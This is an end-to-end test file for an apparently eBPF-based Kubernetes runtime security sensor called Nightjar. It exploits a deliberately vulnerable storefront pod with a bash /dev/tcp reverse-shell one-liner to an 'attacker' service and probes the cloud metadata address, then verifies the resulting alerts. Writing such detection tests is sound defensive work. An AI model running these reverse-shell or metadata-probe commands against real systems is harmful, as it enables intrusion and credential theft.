/** Nightjar as its chart installs it, in a real cluster: from the act in a pod to the alert at the receiver. */
import { createHmac, randomBytes } from 'node:crypto'
import { join } from 'node:path'
import type { V1Pod, V1PodList, V1Service } from '@kubernetes/client-node'
import { Ajv } from 'ajv'
import addFormats from 'ajv-formats'
import { afterAll, afterEach, beforeAll, describe, expect, test, vi } from 'vitest'
import { Alert } from '../../sensor/alert.ts'
import { apply, fetchFrom, get, helm, kubectl } from './commands.ts'
import { type Delivery, openReceiver } from './receiver.ts'
import { removeFromNode } from './removal.ts'
import {
  image,
  imageValues,
  initialisedPod,
  momentaryJob,
  momentaryPod,
  namespaceObjects,
  namespaces,
  scene,
  shopper,
} from './scene.ts'

const { nightjar, shop, outside } = namespaces
const chart = join(import.meta.dirname, '../../deploy/helm/nightjar')
/** What helm puts on everything of the release. */
const ofTheRelease = 'app.kubernetes.io/instance=nightjar'
const key = randomBytes(32)
const receiver = openReceiver()
/** A new one each time: what a run before this has left there is not for our receiver. */
const spoolOnNode = `/var/lib/nightjar-test-${randomBytes(4).toString('hex')}`
/** The node where everything happens; a cluster may have more. */
let node = ''

const ajv = new Ajv({ strict: false, allErrors: true })
addFormats.default(ajv)
const isAlert = ajv.compile(Alert)

beforeAll(async () => {
  await apply(namespaceObjects)
  await apply([
    {
      apiVersion: 'v1',
      kind: 'Secret',
      metadata: { name: 'receivers', namespace: nightjar },
      stringData: { 'soc.key': `whsec_${key.toString('base64')}` },
    },
  ])
  const values = {
    image: { ...imageValues(), pullPolicy: 'Never' },
    webhookSecrets: 'receivers',
    spool: { hostPath: spoolOnNode },
    config: {
      // The kubelet tells of a container that has begun after a second or two.
      kubernetes: { maxWait: '10s' },
      exporters: {
        webhooks: [
          {
            name: 'soc',
            url: `http://receiver.${outside}.svc:8080/alerts`,
            secretFile: '/etc/nightjar/soc.key',
            retry: { maxDelay: '2s' },
          },
        ],
        kubernetesEvents: { enabled: true },
      },
    },
  }
  const install = ['install', 'nightjar', chart, '--namespace', nightjar, '--create-namespace', '--values', '-']
  await helm(install, JSON.stringify(values))
  await rolledOut(nightjar, 'daemonset/nightjar')
  node = (await agent()).spec?.nodeName ?? ''
  await apply(scene(node))
  await Promise.all([
    rolledOut(shop, 'deployment/storefront'),
    rolledOut(outside, 'deployment/receiver'),
    rolledOut(outside, 'deployment/attacker'),
  ])
  receiver.follow()
  // What was told of how the pods are set up could not be delivered before: now nothing waits any more.
  await receiver.first(({ event }) => event.type === 'posture', 60_000)
  const delivered = async () => expect(await metric('nightjar_export_queue_alerts{exporter="soc"')).toBe(0)
  await vi.waitFor(delivered, { timeout: 60_000, interval: 200 })
})
afterAll(async () => {
  receiver.close()
  await helm(['uninstall', 'nightjar', '--namespace', nightjar, '--ignore-not-found'])
})

const logs = ['logs', '--namespace', nightjar, '--selector', 'app.kubernetes.io/name=nightjar', '--prefix', '--tail=30']
afterEach(async ({ task }) => {
  if (task.result?.state === 'fail') process.stderr.write(await kubectl(logs).catch(String))
})

const rolledOut = (namespace: string, workload: string) =>
  kubectl(['rollout', 'status', workload, '--namespace', namespace, '--timeout=90s'])

/** The sensor's pod on our node. */
async function agent(): Promise<V1Pod> {
  const fields = node === '' ? [] : ['--field-selector', `spec.nodeName=${node}`]
  const list = ['pods', '--namespace', nightjar, '--selector', 'app.kubernetes.io/name=nightjar', ...fields]
  const [pod] = (await get<V1PodList>(list)).items
  if (!pod) throw new Error(`no pod of DaemonSet nightjar on ${node || 'any node'}`)
  return pod
}

const inAgent = async (...command: string[]) =>
  kubectl(['exec', '--namespace', nightjar, (await agent()).metadata?.name ?? '', '--', ...command])

/** The sum over the series of a metric whose labels begin so. */
async function metric(series: string): Promise<number> {
  const text = await fetchFrom(nightjar, `pods/${(await agent()).metadata?.name}:9464`, '/metrics')
  const lines = text.split('\n').filter((line) => line.startsWith(series) && /[ {,}]/.test(line.charAt(series.length)))
  return lines.reduce((sum, line) => sum + Number(line.slice(line.lastIndexOf(' '))), 0)
}

/** Exploits the storefront; when, by the server's own clock. */
async function exploit(shell: 'sh' | 'bash', command: string): Promise<number> {
  const query = new URLSearchParams({ command })
  return JSON.parse(await fetchFrom(shop, 'services/storefront:8080', `/${shell}?${query}`)).at
}

/** What the pod did. How it is set up is told as well: the pack posture. */
const isIn = (pod: string) => (alert: Alert) =>
  alert.event.type !== 'posture' && alert.k8s?.namespace?.name === shop && alert.k8s.pod?.name?.startsWith(pod) === true

const commandOf = (alert: Alert) => alert.process?.command_line ?? ''

/** When a pod's program says that it did it, by the clock of the node. */
function askedAt(namespace: string, pod: string): Promise<number> {
  const look = async () => {
    const said = await kubectl(['logs', '--namespace', namespace, pod, '--all-containers'])
    const [, seconds] = /asked at (\d+\.\d+)/.exec(said) ?? []
    if (seconds === undefined) throw new Error(`${pod} has not said when it asked; it said: ${said}`)
    return Number(seconds) * 1000
  }
  return vi.waitFor(look, { timeout: 20_000, interval: 200 })
}

/** The only pod with the label app=NAME in the shop. */
async function podNamed(name: string): Promise<V1Pod> {
  const [pod] = (await get<V1PodList>(['pods', '--namespace', shop, '--selector', `app=${name}`])).items
  if (!pod) throw new Error(`no pod with the label app=${name} in ${shop}`)
  return pod
}

/** What an alert has to say of a pod's container, from what the API server says of it. */
function identityOf(pod: V1Pod, container: string, owners: object) {
  const { initContainerStatuses = [], containerStatuses = [] } = pod.status ?? {}
  const status = [...initContainerStatuses, ...containerStatuses].find(({ name }) => name === container)
  const [runtime, id] = status?.containerID?.split('://') ?? []
  return {
    container: {
      ...{ id, name: container, runtime, restart_count: 0, start_time: expect.any(String) },
      image: expect.objectContaining({ name: image, id: status?.imageID }),
      kind: initContainerStatuses.some(({ name }) => name === container) ? 'init' : 'app',
    },
    k8s: {
      node: { name: node },
      namespace: { name: shop },
      pod: expect.objectContaining({ name: pod.metadata?.name, uid: pod.metadata?.uid, label: pod.metadata?.labels }),
      container: { name: container },
      ...owners,
    },
    identity: expect.objectContaining({
      subject: `system:serviceaccount:${shop}:${shopper}`,
      kind: 'service_account',
      service_account: { namespace: shop, name: shopper },
      freshness: 'live',
      credential: expect.objectContaining({ kind: 'projected', automounted: true, automount: 'default' }),
    }),
  }
}

describe('a web server in a pod is exploited: a reverse shell, by which the attacker asks the metadata service', () => {
  let shell: Delivery
  let child: Delivery
  let metadata: Delivery
  let brief: Delivery
  let at: Record<'exploited' | 'asked' | 'brief', number>

  beforeAll(async () => {
    const { first } = receiver
    // By an address that is known to answer: what DNS and a Service that is new take is no affair of the sensor's.
    const attacker = (await get<V1Service>(['service', 'attacker', '--namespace', outside])).spec?.clusterIP
    const knock = ['timeout', '1', 'bash', '-c', `</dev/tcp/${attacker}/4444`]
    await vi.waitFor(() => kubectl(['exec', '--namespace', shop, 'deployment/storefront', '--', ...knock]), {
      timeout: 30_000,
      interval: 200,
    })
    const exploited = await exploit('bash', `bash -i >& /dev/tcp/${attacker}/4444 0>&1`)
    const alertOf = (rule: string) => first((alert) => isIn('storefront')(alert) && alert.rule.id === rule)
    shell = await alertOf('reverse-shell')
    child = await alertOf('unexpected-child-process')
    metadata = await alertOf('metadata-service-access')
    const asked = await askedAt(outside, 'deployment/attacker')
    // Alerts are delivered in order: what was to come of all that has come before this one.
    const briefAt = await exploit('sh', ': brief')
    brief = await first((alert) => isIn('storefront')(alert) && commandOf(alert).includes(': brief'))
    at = { exploited, asked, brief: briefAt }
  })

  test('the receiver gets one alert of each rule, and no more', () => {
    const alerts = receiver.deliveries.map(({ alert }) => alert).filter(isIn('storefront'))
    const told = alerts.map(({ rule, severity, process }) => `${severity} ${rule.id} by ${process?.name}`)
    expect(told.toSorted()).toEqual([
      'critical reverse-shell by bash',
      'high metadata-service-access by bash',
      'high unexpected-child-process by bash',
      'high unexpected-child-process by dash', // the brief one
    ])
  })

  test('each names pod, labels, owner, container, image and service account', async () => {
    const pod = await podNamed('storefront')
    const expected = identityOf(pod, 'web', {
      owner: { kind: 'Deployment', name: 'storefront' },
      deployment: { name: 'storefront' },
      replicaset: { name: pod.metadata?.ownerReferences?.[0]?.name },
    })
    expect(pod.metadata?.labels).toMatchObject({ app: 'storefront', team: 'payments' })
    for (const { alert } of [shell, child, metadata, brief]) {
      expect({ container: alert.container, k8s: alert.k8s, identity: alert.identity }).toEqual(expected)
      expect(alert.host?.name).toBe(node) // and not the name of the sensor's own pod
    }
  })

  test('it is an Event on the pod, too, for whoever describes it', async () => {
    const name = `nightjar-${shell.alert.id.toLowerCase()}`
    const pod = await podNamed('storefront')
    const told = await vi.waitFor(() => get(['events.events.k8s.io', name, '--namespace', shop]), {
      timeout: 20_000,
      interval: 200,
    })
    expect(told).toMatchObject({
      type: 'Warning',
      reason: 'ReverseShell',
      regarding: { kind: 'Pod', name: pod.metadata?.name, uid: pod.metadata?.uid },
      reportingController: 'nightjar.dev/sensor',
    })
  })

  test('each arrives within 2 s of the act, also of the shell that lived for a millisecond', () => {
    const lateness = {
      shell: shell.arrived - at.exploited,
      child: child.arrived - at.exploited,
      metadata: metadata.arrived - at.asked,
      brief: brief.arrived - at.brief,
    }
    for (const [what, milliseconds] of Object.entries(lateness)) {
      expect(milliseconds, what).toBeGreaterThan(0)
      expect(milliseconds, what).toBeLessThan(2000)
    }
  })

  test('the alerts say what was done: peer, address, arguments, ancestors', async () => {
    const attacker = await get<V1Service>(['service', 'attacker', '--namespace', outside])
    const [pod] = (await get<V1PodList>(['pods', '--namespace', outside, '--selector', 'app=attacker'])).items
    // The address that the process asked for, or the pod's where the network plugin translates in connect() already.
    expect([attacker.spec?.clusterIP, pod?.status?.podIP]).toContain(shell.alert.process?.stdin?.peer?.ip)
    expect(shell.alert.process?.stdin).toMatchObject({ type: 'socket', peer: { port: 4444 }, direction: 'outbound' })
    expect(commandOf(shell.alert)).toContain('bash -i')
    const ancestors = shell.alert.process?.ancestors?.map(({ command_line }) => command_line)
    expect(ancestors).toContain('node /programs/program.mts')
    expect(child.alert.process?.ancestors?.[0]).toMatchObject({ name: 'node', listening: { port: 8080 } })
    expect(metadata.alert.destination).toEqual({ ip: '169.254.169.254', port: 80 })
    expect(brief.alert.process?.command_args).toEqual(['sh', '-c', ': brief'])
  })

  test('each is an alert by the schema', () => {
    for (const { body } of [shell, child, metadata, brief]) {
      isAlert(JSON.parse(body))
      expect(isAlert.errors ?? []).toEqual([])
    }
  })

  test('each is signed with the key of the Secret, as Standard Webhooks has it', () => {
    for (const { headers, body, alert, arrived } of [shell, child, metadata, brief]) {
      const timestamp = headers['webhook-timestamp'] ?? ''
      const signature = createHmac('sha256', key).update(`${alert.id}.${timestamp}.${body}`).digest('base64')
      expect(headers).toMatchObject({ 'webhook-id': alert.id, 'webhook-signature': `v1,${signature}` })
      expect(Math.abs(arrived / 1000 - Number(timestamp))).toBeLessThan(60)
    }
  })
})

describe('a container that lives only for a moment is tied to its pod', () => {
  const kinds = [
    {
      what: 'a Job',
      object: momentaryJob,
      container: 'once',
      owners: { owner: { kind: 'Job', name: 'report' }, job: { name: 'report' } },
      name: 'report',
    },
    { what: 'a pod that nothing owns', object: momentaryPod, container: 'once', owners: {}, name: 'lone' },
    {
      what: 'the preparation (init) of a pod',
      object: initialisedPod,
      container: 'prepare',
      owners: {},
      name: 'initialised',
    },
  ]
  for (const { what, object, container, owners, name } of kinds)
    test(`as ${what}`, async () => {
      await apply([object(name, node)])
      const { alert, arrived } = await receiver.first(isIn(name))
      const pod = await podNamed(name)
      const { container: of, k8s, identity } = alert
      expect({ rule: alert.rule.id, container: of, k8s, identity }).toEqual({
        rule: 'metadata-service-access',
        ...identityOf(pod, container, owners),
      })
      const took = arrived - (await askedAt(shop, `pod/${pod.metadata?.name}`))
      process.stdout.write(`the alert of ${what} came ${Math.round(took)} ms after the act\n`)
    })
})

describe('the pod of the sensor', () => {
  test('is not privileged: BPF and PERFMON are all that it may', async () => {
    const [container] = (await agent()).spec?.containers ?? []
    expect(container?.securityContext).toMatchObject({
      privileged: false,
      allowPrivilegeEscalation: false,
      readOnlyRootFilesystem: true,
      capabilities: { drop: ['ALL'], add: ['BPF', 'PERFMON'] },
    })
    // include/uapi/linux/capability.h: CAP_PERFMON is 38, CAP_BPF is 39.
    const mask = ((1n << 38n) | (1n << 39n)).toString(16).padStart(16, '0')
    const status = await inAgent('cat', '/proc/self/status')
    for (const set of ['CapPrm', 'CapEff', 'CapBnd']) expect(status).toContain(`${set}:\t${mask}`)
  })

  test('has all that it needs, says nightjar doctor', async () => {
    const lines = (await inAgent('nightjar', 'doctor', '--output', 'json')).trimEnd().split('\n')
    const checks: { name: string; ok?: boolean }[] = lines.map((line) => JSON.parse(line))
    expect(checks).toContainEqual(expect.objectContaining({ name: 'kernel probes', ok: true }))
    expect(checks.filter(({ ok }) => ok === false)).toEqual([])
  })

  test('prints its alerts as JSON lines; its log is JSON lines too, and there is nothing else', async () => {
    const text = await kubectl(['logs', '--namespace', nightjar, (await agent()).metadata?.name ?? ''])
    const lines: Record<string, unknown>[] = text
      .trimEnd()
      .split('\n')
      .map((line) => JSON.parse(line))
    const alerts = lines.filter(({ schema }) => schema !== undefined)
    for (const alert of alerts) expect(isAlert(alert) || isAlert.errors).toBe(true)
    const delivered = receiver.deliveries.map(({ alert }) => alert).filter(isIn('storefront'))
    expect(alerts).toEqual(expect.arrayContaining(delivered))
    for (const line of lines.filter((line) => !alerts.includes(line)))
      expect(line).toEqual(
        expect.objectContaining({ level: expect.any(Number), time: expect.any(String), msg: expect.any(String) }),
      )
  })

  test('is ready, and counts events and whose they are', async () => {
    await fetchFrom(nightjar, 'services/nightjar:metrics', '/readyz')
    expect(await metric('nightjar_events_total{type="exec"')).toBeGreaterThan(0)
    expect(await metric('nightjar_enrichment_total{result="pod"')).toBeGreaterThan(0)
    expect(await metric('nightjar_alerts_total{rule="reverse-shell"')).toBeGreaterThan(0)
    expect(await metric('nightjar_probe_up')).toBe(1)
  })
})

const scaleReceiver = (replicas: number) =>
  kubectl(['scale', 'deployment/receiver', '--namespace', outside, `--replicas=${replicas}`])

/** A Job does what is alerted while the receiver is away; done when the alert is there and was tried: it is kept. */
async function unheard(job: string): Promise<void> {
  const failures = 'nightjar_export_failures_total{exporter="soc"'
  const alerts = 'nightjar_alerts_total{rule="metadata-service-access"'
  await scaleReceiver(0)
  await kubectl(['wait', '--for=delete', 'pod', '--selector=app=receiver', '--namespace', outside, '--timeout=60s'])
  const told = await metric(alerts)
  await apply([momentaryJob(job, node)])
  await expect.poll(() => metric(alerts), { timeout: 60_000 }).toBeGreaterThan(told)
  const before = await metric(failures)
  await expect.poll(() => metric(failures), { timeout: 60_000 }).toBeGreaterThan(before)
}

async function receiverIsBack(): Promise<void> {
  await scaleReceiver(1)
  await rolledOut(outside, 'deployment/receiver')
  receiver.follow()
}

/** Deletes the sensor's pod; done when its successor is ready. */
async function replaceAgent(...options: string[]): Promise<void> {
  const { uid, name = '' } = (await agent()).metadata ?? {}
  await kubectl(['delete', 'pod', name, '--namespace', nightjar, ...options])
  const successor = async () => {
    const { metadata, status } = await agent()
    const ready = status?.conditions?.some(({ type, status }) => type === 'Ready' && status === 'True')
    if (metadata?.uid === uid || !ready) throw new Error('no pod in place of the deleted one is ready')
  }
  await vi.waitFor(successor, { timeout: 60_000, interval: 200 })
}

test('a receiver that was away gets the alert once it is back', async () => {
  await unheard('unheard')
  await receiverIsBack()
  const { alert } = await receiver.first(isIn('unheard'), 60_000)
  expect(alert.k8s?.job?.name).toBe('unheard')
})

test("a receiver that is away while the sensor's pod is deleted, too, gets the alert once both are back", async () => {
  expect(await metric('nightjar_spool_durable')).toBe(1)
  await unheard('outlives')
  // At once, without a chance to stop in order.
  await replaceAgent('--grace-period=0', '--force')
  expect(await metric('nightjar_spool_durable')).toBe(1)
  expect(await metric('nightjar_spool_alerts')).toBeGreaterThan(0)
  expect(await metric('nightjar_spool_damaged_total')).toBe(0)
  await receiverIsBack()
  const { alert } = await receiver.first(isIn('outlives'), 60_000)
  expect(alert.k8s?.job?.name).toBe('outlives')
  await expect.poll(() => metric('nightjar_export_queue_alerts{exporter="soc"'), { timeout: 30_000 }).toBe(0)
})

test('bpftrace, killed in its pod, is back by itself, and the gap itself is alerted with its length', async () => {
  // hostPID shows the whole node: ours is the bpftrace that shares the mounts of this shell.
  const kill = `for process in /proc/[0-9]*; do
    { read -r name <"$process/comm"; } 2>/dev/null && [ "$name" = bpftrace ] || continue
    [ "$(readlink "$process/ns/mnt")" = "$(readlink /proc/self/ns/mnt)" ] || continue
    date +%s%3N
    kill -9 "\${process#/proc/}"
  done`
  const restarts = await metric('nightjar_probe_restarts_total')
  const killed = (await inAgent('sh', '-c', kill)).trimEnd().split('\n').map(Number)
  expect(killed).toHaveLength(1)
  const killedAt = killed[0] ?? Number.NaN
  // Another gap may be told meanwhile, such as events that a busy kernel had no room for.
  const isTheGap = ({ rule, k8s, time, gap }: Alert) =>
    rule.id === 'sensor-gap' &&
    k8s?.node?.name === node &&
    Date.parse(time) >= killedAt &&
    gap?.reason === 'probe_exited' &&
    gap.detail?.includes('SIGKILL') === true
  const { alert, arrived } = await receiver.first(isTheGap, 60_000)
  const away = arrived - killedAt
  expect((alert.gap?.seconds ?? 0) * 1000).toBeGreaterThan(0)
  expect((alert.gap?.seconds ?? 0) * 1000).toBeLessThan(away + 1000)
  // The alert may be of a gap that goes on. Detaching the old probes and compiling for all shipped packs take most of it.
  await expect.poll(() => metric('nightjar_probe_up'), { timeout: 60_000 }).toBe(1)
  expect(await metric('nightjar_probe_restarts_total')).toBe(restarts + 1)
  await apply([momentaryJob('after-the-gap', node)])
  await receiver.first(isIn('after-the-gap'))
})

describe('a sensor whose pod was deleted', () => {
  let deleted: number
  const since = (rule: string) => (alert: Alert) =>
    isIn('storefront')(alert) && alert.rule.id === rule && Date.parse(alert.time) > deleted

  test('comes back by itself and goes on', async () => {
    deleted = Date.now()
    await replaceAgent()
    const at = await exploit('bash', 'timeout 1 bash -c "</dev/tcp/169.254.169.254/80"')
    const { alert, arrived } = await receiver.first(since('metadata-service-access'))
    expect(alert.k8s?.deployment?.name).toBe('storefront')
    expect(alert.identity?.subject).toBe(`system:serviceaccount:${shop}:${shopper}`)
    expect(arrived - at).toBeLessThan(2000)
  })

  test('knows the server that ran before it: a shell is as unexpected as ever', async ({ skip }) => {
    const log = await kubectl(['logs', '--namespace', nightjar, (await agent()).metadata?.name ?? ''])
    skip(log.includes('in a nested PID namespace'), 'the node is itself a container: /proc shows other numbers there')
    const { alert } = await receiver.first(since('unexpected-child-process'))
    expect(alert.process?.ancestors?.[0]).toMatchObject({ name: 'node', listening: { port: 8080 } })
  })
})

test('helm uninstall leaves nothing of the release behind', async () => {
  const kinds = (await kubectl(['api-resources', '--verbs=list', '--output', 'name'])).trimEnd().split('\n').join(',')
  const left = async () => {
    const list = ['get', kinds, '--all-namespaces', '--ignore-not-found', '--output', 'name']
    const objects = await kubectl([...list, '--selector', ofTheRelease])
    // Helm's own record of the release.
    const record = await kubectl(['get', 'secrets', ...list.slice(2), '--selector', 'owner=helm,name=nightjar'])
    return `${objects}${record}`.split('\n').filter((line) => line !== '')
  }
  expect(await left()).toEqual(
    expect.arrayContaining(['daemonset.apps/nightjar', 'clusterrole.rbac.authorization.k8s.io/nightjar']),
  )
  await helm(['uninstall', 'nightjar', '--namespace', nightjar])
  await expect.poll(left, { timeout: 60_000, interval: 500 }).toEqual([])
  // The spool is the node's, and stays for whoever installs the sensor again: here nobody does.
  await removeFromNode(spoolOnNode, node)
})
